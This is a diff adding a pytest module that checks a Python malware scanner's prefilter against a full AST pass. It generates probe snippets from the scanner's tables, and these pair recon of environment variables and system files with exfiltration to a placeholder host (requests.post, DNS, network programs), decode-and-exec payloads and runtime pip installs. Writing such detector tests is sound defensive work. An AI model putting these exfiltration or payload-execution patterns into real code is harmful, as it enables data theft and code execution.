@@ -1,0 +1,230 @@
+"""The prefilter's triggers never hide a threat: every rule's table, enumerated.
+
+A file the prefilter answers "nothing" for is not parsed, and one it answers
+with focus lines is visited only around them (:mod:`caplet._scan._prefilter`
+says why that is sound). These tests hold it to that, differentially: each
+probe is scanned in package mode twice, once as :func:`scan_text` does (the
+prefilter asked) and once with the prefilter answering "the whole file"; the
+danger findings must be the same. The probes are generated from the tables
+the rules themselves read (:mod:`caplet._scan._sources`, the rules' worked
+examples), so a source, sink or decoder added to a table without a trigger in
+the prefilter fails here, by name.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from caplet._findings import Severity
+from caplet._scan import _filepass
+from caplet._scan._examples import EXAMPLES, Variant
+from caplet._scan._filepass import scan_text
+from caplet._scan._grants import NO_GRANTS
+from caplet._scan._model import ScanMode
+from caplet._scan._prefilter import Need, Prefilter
+from caplet._scan._resolve import REACHABLE_MODULES
+from caplet._scan._rules import API_RULES
+from caplet._scan._sources import (
+    BOT_FRAMEWORKS,
+    DECODERS,
+    DECODING_CODECS,
+    DNS_FUNCTIONS,
+    EXECUTORS,
+    NETWORK_PROGRAMS,
+    PIP_MAINS,
+    RECON_ENV_NAMES,
+    RECON_FILES,
+    RECON_FUNCTIONS,
+)
+
+
+class _Blind(Prefilter):
+    """A prefilter that sends every file, whole, to the AST pass."""
+
+    def check_text(self, text: str) -> tuple[Need | frozenset[int], bool]:
+        return Need.FULL, True
+
+
+def _danger(text: str, name: str = "mod.py") -> list[tuple[str, int]]:
+    findings, _ = scan_text(
+        text,
+        f"pkg/{name}",
+        grants=NO_GRANTS,
+        local_modules=(),
+        max_depth=100,
+        max_nodes=200_000,
+        mode=ScanMode.PACKAGE,
+    )
+    return sorted({(f.rule_id, f.line) for f in findings if f.severity is Severity.DANGER})
+
+
+def _differs(text: str, monkeypatch: pytest.MonkeyPatch) -> tuple[list[tuple[str, int]], ...]:
+    """(prefiltered, unfiltered) danger findings of ``text``."""
+    filtered = _danger(text)
+    with monkeypatch.context() as patch:
+        patch.setattr(_filepass, "prefilter", _Blind)
+        unfiltered = _danger(text)
+    return filtered, unfiltered
+
+
+def _module_of(api: str) -> str:
+    """The module to import for a dotted API (``builtins.bytes.fromhex`` needs none)."""
+    head = api.split(".", 1)[0]
+    return "" if head == "builtins" else f"import {api.rsplit('.', 1)[0]}\n"
+
+
+def _call(api: str, argument: str = "") -> str:
+    """``api`` called (``builtins.`` dropped, as code spells it)."""
+    return f"{api.removeprefix('builtins.')}({argument})"
+
+
+def _reached(api: str, argument: str = "") -> tuple[str, str] | None:
+    """(import, call) of ``api`` read off another imported module (``json.subprocess.run``),
+    when the resolver follows its module so (:data:`REACHABLE_MODULES`); else ``None``."""
+    module, _, rest = api.partition(".")
+    if module not in REACHABLE_MODULES.values():
+        return None
+    return "import json\n", f"json.{module}.{rest}({argument})"
+
+
+def _aliased(api: str, argument: str = "") -> tuple[str, str]:
+    """(import, call) of ``api`` imported under another name: ``from os import system as
+    run_it``, then ``run_it(...)``."""
+    module, _, name = api.rpartition(".")
+    return f"from {module} import {name} as run_it\n", f"run_it({argument})"
+
+
+_HOST = "str(x) + '.collect.example.net'"
+
+
+_RECON = [
+    *(
+        (_module_of(f), _call(f, "0" if f.endswith("getpwuid") else ""))
+        for f in sorted(RECON_FUNCTIONS)
+    ),
+    *(("import os\n", f"os.environ[{n!r}]") for n in sorted(RECON_ENV_NAMES)),
+    *(("import os\n", f"os.getenv({n!r})") for n in sorted(RECON_ENV_NAMES)),
+    *(_aliased(f, "0" if f.endswith("getpwuid") else "") for f in sorted(RECON_FUNCTIONS)),
+    *(
+        reached
+        for f in sorted(RECON_FUNCTIONS)
+        if (reached := _reached(f, "0" if f.endswith("getpwuid") else "")) is not None
+    ),
+    *(("", f"open({p!r}).read()") for p in sorted(RECON_FILES)),
+    *(
+        ("import os\n", f"open(os.path.join('/etc', {p.rsplit('/', 1)[1]!r})).read()")
+        for p in sorted(RECON_FILES)
+    ),
+]
+_EGRESS = [
+    "import requests\nrequests.post('https://collect.example.net/c', data=x)\n",
+    "import urllib.request\nurllib.request.urlopen('https://collect.example.net/?' + str(x))\n",
+    *(f"{_module_of(d)}{_call(d, _HOST)}\n" for d in sorted(DNS_FUNCTIONS) if "()." not in d),
+    *(f"import dns.resolver\n{_call(d, _HOST)}\n" for d in sorted(DNS_FUNCTIONS) if "()." in d),
+    *(
+        f"import subprocess\nsubprocess.run([{p!r}, str(x) + '.collect.example.net'])\n"
+        for p in sorted(NETWORK_PROGRAMS)
+    ),
+]
+
+
+def _probe(imports: str, source: str, egress: str) -> str:
+    head, _, call = egress.partition("\n")
+    return f"{imports}{head}\nx = {source}\n{call}"
+
+
+def _recon_probes() -> list[str]:
+    # Each entry once against a partner whose trigger the other probes check: a
+    # missing trigger on either side hides the threat, so every entry is held to
+    # the rule without the product of the tables.
+    imports, source = _RECON[0]
+    return [_probe(i, s, _EGRESS[0]) for i, s in _RECON] + [
+        _probe(imports, source, egress) for egress in _EGRESS
+    ]
+
+
+def _decoder_probes() -> list[str]:
+    sinks = [
+        "exec(payload)",
+        "import os\nos.system(payload)",
+        *(_call(e, "payload") for e in sorted(EXECUTORS) if e.startswith("builtins.")),
+        *(
+            f"{_module_of(api)}{_call(api, 'payload')}"
+            for api, rule_id in sorted(API_RULES.items())
+            if rule_id == "CPL-PROC-001"
+        ),
+        *(
+            "".join(_aliased(api, "payload"))
+            for api, rule_id in sorted(API_RULES.items())
+            if rule_id == "CPL-PROC-001"
+        ),
+        *(
+            "".join(reached)
+            for api, rule_id in sorted(API_RULES.items())
+            if rule_id == "CPL-PROC-001" and (reached := _reached(api, "payload")) is not None
+        ),
+    ]
+
+    def decoded(decoder: str) -> str:
+        argument = "blob, 'rot13'" if decoder == "codecs.decode" else "blob"
+        return f"{_module_of(decoder)}payload = {_call(decoder, argument)}\n"
+
+    codecs = [
+        f"import codecs\npayload = codecs.decode(blob, {c!r})\n" for c in sorted(DECODING_CODECS)
+    ]
+    # every decoder into a code sink and a process sink, every sink fed by one decoder
+    through = [
+        f"{imports}payload = {call}\n"
+        for d in sorted(DECODERS)
+        if (reached := _reached(d, "blob")) is not None
+        for imports, call in [reached]
+    ]
+    each = [decoded(d) for d in sorted(DECODERS)] + codecs + through
+    return [d + sink + "\n" for d in each for sink in sinks[:2]] + [
+        each[0] + sink + "\n" for sink in sinks
+    ]
+
+
+def _other_probes() -> list[str]:
+    install = "['install', 'x']"
+    pips = [f"import pip\nimport pip._internal\n{_call(p, install)}\n" for p in sorted(PIP_MAINS)]
+    bots = [
+        f"import {b}\n@{b}.handler\ndef on(message):\n    exec(message.text)\n"
+        for b in sorted(BOT_FRAMEWORKS)
+    ]
+    return pips + bots
+
+
+_PROBES = _recon_probes() + _decoder_probes() + _other_probes()
+
+
+@pytest.mark.parametrize("probe", _PROBES)
+def test_a_table_driven_probe_finds_the_same_threats_prefiltered(
+    probe: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    filtered, unfiltered = _differs(probe, monkeypatch)
+    assert filtered == unfiltered
+
+
+def test_the_probes_are_threats_the_rules_find(monkeypatch: pytest.MonkeyPatch) -> None:
+    # A probe set the rules never fire on would prove nothing about the prefilter.
+    fired = [p for p in _PROBES if _differs(p, monkeypatch)[1]]
+    assert len(fired) > len(_PROBES) // 2
+
+
+def _example_sources() -> list[object]:
+    params: list[object] = []
+    for number, item in enumerate(EXAMPLES):
+        for variant in Variant:
+            source = item.source(variant)
+            if source is not None:
+                params.append(pytest.param(source, id=f"{item.rule_id}-{number}-{variant.value}"))
+    return params
+
+
+@pytest.mark.parametrize("source", _example_sources())
+def test_every_rule_example_finds_the_same_threats_prefiltered(
+    source: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    filtered, unfiltered = _differs(source, monkeypatch)
+    assert filtered == unfiltered
